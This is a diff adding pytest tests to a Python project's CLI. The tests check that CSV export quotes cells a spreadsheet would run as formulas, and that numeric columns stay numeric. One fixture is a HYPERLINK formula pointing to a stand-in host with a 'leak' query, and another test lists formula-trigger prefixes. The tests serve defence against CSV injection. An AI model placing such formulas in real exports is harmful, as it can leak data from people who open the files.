@@ -414,3 +414,30 @@ def test_cli_in_a_subprocess_writes_utf8_to_stdout(case):
                           capture_output=True, check=False)
     assert done.returncode == 0, done.stderr
     assert done.stdout.decode("utf-8") == to_argdown(case)
+
+
+# ---------------------------------------------------------------- CSV formula neutralisation
+
+FORMULA = '=HYPERLINK("http://x.example/?leak","Open")'
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote_and_numbers_stay_numbers(mutated_case, capsys):
+    path, _ = mutated_case("    label: China buys Russian energy on its own terms",
+                           "    label: '" + FORMULA.replace("'", "''") + "'")
+    assert main(["export", "--format", "csv", "--case", str(path)]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    row = next(r for r in rows if r["factor_id"] == "energy-concessions")
+    assert row["label"] == "'" + FORMULA
+    for r in rows:
+        assert not r["label"].startswith(("=", "+", "-", "@"))
+        for column in ("weight", "default_weight", "start", "end"):
+            float(r[column])  # numeric columns are written as numbers, never quoted
+
+
+def test_to_csv_and_the_class_csv_share_one_rule():
+    from entente_lab import report
+    from entente_lab.safe_output import csv_cell
+
+    assert export_module.csv_cell is csv_cell and report.csv_cell is csv_cell
+    assert [csv_cell(t) for t in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "\uff1d1", "a=1", "")] == [
+        "'=1+1", "'+1", "'-1+1", "'@A1", "'\t=1", "'\r=1", "'\uff1d1", "a=1", ""]
